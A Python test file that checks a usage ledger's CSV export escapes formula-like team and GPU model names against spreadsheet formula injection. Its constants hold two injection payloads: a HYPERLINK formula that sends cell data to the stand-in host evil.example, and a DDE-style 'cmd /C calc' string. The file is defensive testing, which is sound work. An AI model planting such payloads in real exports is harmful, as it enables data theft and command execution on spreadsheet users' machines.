"""The CSV export of ``GET /v1/usage`` opened as a spreadsheet would: text that looks like a formula stays text.

Team labels, namespace names and device attributes come from the cluster, so a hostile label such as
``=HYPERLINK(...)`` must not become a live formula in the chargeback sheet (OWASP "CSV Injection").
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from ledger.testing.handle import LedgerHandle
from tests import factories as f
from tests.reliability.world import client

TEAM = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")"
MODEL = "-2+3+cmd|' /C calc'!A0"


def test_a_team_or_model_that_looks_like_a_formula_is_exported_as_text(ledger: LedgerHandle, tmp_path: Path) -> None:
    ns, pool, claim_uid = f.uid("ns"), f.uid("pool"), f.uid("claim")
    ledger.replay(f.history(tmp_path / "h.jsonl", [
        ("ADDED", f.namespace(ns, TEAM), 0),
        ("ADDED", f.resource_slice(name=f.uid("slice"), pool=pool, devices=[f.gpu("gpu-0", model=MODEL)]), 1),
        ("ADDED", f.claim(name="c", namespace=ns, claim_uid=claim_uid, results=["gpu-0"], allocated_at=2,
                          pool=pool), 3),
    ]))
    # gpu-0 is held from minute 2 on: the window [2, 92) minutes is 1.5 device-hours.
    window = {"from": f.stamp(2), "to": f.stamp(92)}
    with client(ledger) as api:
        tables = {}
        for group_by in ("team", "model"):
            response = api.get("/v1/usage", params={**window, "groupBy": group_by}, headers={"Accept": "text/csv"})
            assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
            tables[group_by] = list(csv.DictReader(io.StringIO(response.text)))

    assert [(r["group"], r["deviceHours"]) for r in tables["team"]] == [("'" + TEAM, "1.5")]
    assert [(r["group"], r["deviceHours"]) for r in tables["model"]] == [("'" + MODEL, "1.5")]
